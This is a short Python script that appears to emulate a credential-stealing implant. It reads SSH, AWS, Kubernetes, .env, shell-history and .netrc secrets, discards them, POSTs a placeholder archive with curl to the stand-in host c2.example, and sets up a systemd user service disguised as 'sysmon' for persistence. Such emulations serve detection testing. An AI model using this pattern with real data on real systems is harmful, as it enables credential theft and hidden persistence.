import pathlib, subprocess, tempfile

home = pathlib.Path.home()
for secret in [".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".env", ".bash_history", ".netrc"]:
    (home / secret).read_bytes()
try:
    open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
except OSError:
    pass
with tempfile.TemporaryDirectory() as folder:
    pathlib.Path(folder, "payload.enc").write_text("nothing")
    archive = f"{folder}/tpcp.tar.gz"
    subprocess.run(["tar", "-czf", archive, "-C", folder, "payload.enc"], check=True)
    subprocess.run(
        ["curl", "-s", "-o", "/dev/null", "-X", "POST", "https://c2.example/",
         "-H", "X-Filename: tpcp.tar.gz", "--data-binary", f"@{archive}"],
        check=True,
    )
for path, text in [(".config/sysmon/sysmon.py", "pass\n"), (".config/systemd/user/sysmon.service", "[Service]\n")]:
    (home / path).parent.mkdir(parents=True, exist_ok=True)
    (home / path).write_text(text)
for verb in ["daemon-reload", "enable", "start"]:
    subprocess.run(["systemctl", "--user", verb, "sysmon.service"])
